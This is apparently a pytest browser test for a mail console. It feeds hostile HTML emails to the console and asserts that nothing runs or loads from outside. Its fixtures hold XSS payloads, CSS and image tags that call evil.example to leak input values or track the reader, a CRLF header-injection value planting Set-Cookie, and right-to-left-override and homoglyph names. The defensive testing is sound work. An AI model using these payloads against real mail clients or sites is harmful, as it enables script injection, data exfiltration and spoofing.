"""Hostile mail in the console: nothing runs or loads from outside, and the page still reads."""

from email.message import EmailMessage
from email.policy import SMTPUTF8

import pytest
from test_browser import address, browser, look  # noqa: F401 - fixtures

from models.envelope import Client, Envelope, Recipient
from models.mail import Mail
from models.mime import read_message
from tests.console_sample import NOW, make_council

pytestmark = [pytest.mark.browser, pytest.mark.slow]
CARD = "The card is 4111 1111 1111 1111."
EVIL = "http://evil.example"
LARGE = "ten megabytes in one line"  # more than is read, and the page says so
TEN_MEGABYTES = 10_000_000  # characters of HTML
SEEN = "<p>Seen by its reader</p>"
HTML = {
    "a script": f"{SEEN}<script>document.title='owned';fetch('{EVIL}')</script>",
    "handlers": f"{SEEN}<img src=x onerror=\"document.title='owned'\"><body onload=alert(1)>",
    "an SVG": f"{SEEN}<svg onload=alert(1)><script>alert(1)</script><use href='{EVIL}/a#b'/></svg>",
    "CSS that tells": f"<style>@import '{EVIL}/a.css';"
    f"input[value^=a]{{background:url({EVIL}/?a)}} body{{display:none}}</style>{SEEN}",
    "pictures from elsewhere": f"{SEEN}<img src='{EVIL}/track.gif'>"
    f"<video poster='{EVIL}/b'></video><link rel=prefetch href='{EVIL}/c'>",
    "links that run": f"{SEEN}<a href='javascript:alert(1)'>here</a>"
    f"<a href='data:text/html,<script>alert(1)</script>'>there</a>",
    "a frame, a form and a base": f"{SEEN}<iframe src='{EVIL}'></iframe><base href='{EVIL}'>"
    f"<form action='{EVIL}'><input name=password></form>"
    f"<meta http-equiv=refresh content='0;{EVIL}'>",
    "the page's own ends": f"{SEEN}</li></ol></main></body></html><!-- --><textarea><title>",
    LARGE: SEEN + "padding " * (TEN_MEGABYTES // 8),
    "very many tags": SEEN + "<b><i>x</i></b><br>" * 2_000,
}
SUBJECT = "</title><script>alert(1)</script> {{ 7*7 }} %(x)s"


@pytest.fixture(params=["en"])
def language(request):
    return request.param


@pytest.fixture(params=["narrow"])
def size(request):
    return request.param


@pytest.fixture(scope="module")
def council(tmp_path_factory):
    made = make_council(tmp_path_factory.mktemp("hostile"))
    yield made
    made.database.close()


INJECTED = b"=?utf-8?q?x=0D=0ASet-Cookie:_owned=3D1=0D=0A=0D=0A<b>?="


def hostile(number, html, to="john@example.org", subject=SUBJECT):
    message = EmailMessage(policy=SMTPUTF8)
    message["From"] = "Sioned Parry <sioned.parry@cantref.example>"
    message["To"] = to
    message["Subject"] = subject
    message.set_content(CARD)
    message.add_alternative(html, subtype="html")
    name = '"><img src=x onerror=alert(1)>\u202efdp.exe'
    message.add_attachment(b"<svg onload=alert(1)/>", "image", "svg+xml", filename=name)
    envelope = Envelope(
        id=f"POR{number:06}",
        sender="sioned.parry@cantref.example",
        recipients=(Recipient(address=to),),
        client=Client(address="127.0.0.1", port=40000, name="mail"),
        received=NOW,
    )
    raw = message.as_bytes().replace(b"Subject: injected", b"Subject: " + INJECTED)
    return Mail(envelope=envelope, message=read_message(raw))


@pytest.mark.requirement("M9")
@pytest.mark.parametrize("what", HTML)
def test_nothing_runs_or_loads_and_the_page_still_reads(look, address, council, what):  # noqa: F811
    page, check, sign_in = look
    page.on("dialog", lambda each: pytest.fail(f"it ran: {each.message}"))
    held_id = council.hold_mail(hostile(list(HTML).index(what) + 1, HTML[what]))
    sign_in("gwen")
    page.goto(f"{address}/held/{held_id}")
    check(f"hostile-{held_id}")
    page.click("form:has(input[value='attachments']) button")
    page.get_by_text("4111 1111 1111 1111").first.wait_for()
    check(f"hostile-{held_id}-opened")
    shown = page.locator("main").inner_text()
    assert "Seen by its reader" in shown or (what == LARGE and "could not be read" in shown)
    assert held_id in page.title()
    assert page.locator("main :is(img, svg, iframe, script, style, base, video)").count() == 0
    assert page.locator("main a[href^='javascript:'], main a[href^='data:']").count() == 0
    assert page.locator(f"form[action='/held/{held_id}/decision'] button").is_visible()


def test_names_that_look_like_others_are_told_and_a_field_makes_no_header(
    look,  # noqa: F811
    address,  # noqa: F811
    council,
):
    page, check, sign_in = look
    given = hostile(90, HTML["a script"], to="john\u202e@\u0430pple.example", subject="injected")
    held_id = council.hold_mail(given)
    sign_in("gwen")
    page.goto(f"{address}/held/{held_id}")
    shown = page.locator("main").inner_text()
    assert "john[U+202E]@\u0430pple.example (in basic letters: xn--pple-43d.example)" in shown
    with page.expect_response(f"**/held/{held_id}/email") as answered:
        page.click("form:has(input[value='attachments']) button")
    check("hostile-names")
    assert "[U+202E]fdp.exe" in page.locator("main").inner_text()
    assert "set-cookie" not in answered.value.headers
    assert all(each["name"] != "owned" for each in page.context.cookies())
